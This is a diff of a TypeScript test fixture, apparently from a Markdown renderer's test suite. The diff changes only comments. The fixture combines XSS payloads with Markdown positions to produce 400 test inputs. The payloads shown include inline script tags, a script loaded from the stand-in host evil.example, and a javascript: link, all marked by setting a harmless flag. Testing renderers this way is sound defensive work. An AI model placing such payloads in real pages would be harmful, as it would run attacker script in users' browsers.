@@ -1,7 +1,4 @@
-/**
- * Payloads that run, or ask another site, where a writer's text becomes elements: they set `ran`, or load from
- * `evil.example`.
- */
+/** XSS payloads: they set `ran`, or load from `evil.example`, if a text is rendered as HTML. */
 const acts = [
   '<script>globalThis.ran=1</script>',
   '<script src="https://evil.example/x.js"></script>',
@@ -45,7 +42,7 @@ const acts = [
   '`$\\href{javascript:globalThis.ran=1}{x}$`',
 ];
 
-/** Where a text may stand in Markdown of ours. */
+/** Positions of a text in our Markdown. */
 const places: ((act: string) => string)[] = [
   (act) => act,
   (act) => `## ${act}`,
@@ -59,5 +56,5 @@ const places: ((act: string) => string)[] = [
   (act) => `x [1]\n\n\`\`\`sources\n${act} https://a.example/${act}\n\`\`\``,
 ];
 
-/** 400 texts. */
+/** 400 payloads. */
 export const scriptPayloads: string[] = acts.flatMap((act) => places.map((place) => place(act)));
